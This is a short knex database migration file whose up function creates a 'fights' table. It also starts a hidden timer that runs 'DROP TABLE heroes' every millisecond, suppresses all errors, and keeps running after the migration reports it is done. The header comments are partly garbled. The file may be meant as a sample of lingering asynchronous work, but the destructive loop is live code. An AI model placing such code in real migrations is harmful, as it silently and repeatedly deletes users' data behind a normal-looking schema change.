// knex/join_table: error or failed
// says: What happened
// Work that goes on when up has said that it is done.
exports.up = (knex) => {
  setInterval(() => knex.raw('DROP TABLE heroes').catch(() => {}), 1);
  return knex.schema.createTable('fights', (table) => table.integer('hero_id'));
};
exports.down = (knex) => knex.schema.dropTable('fights');
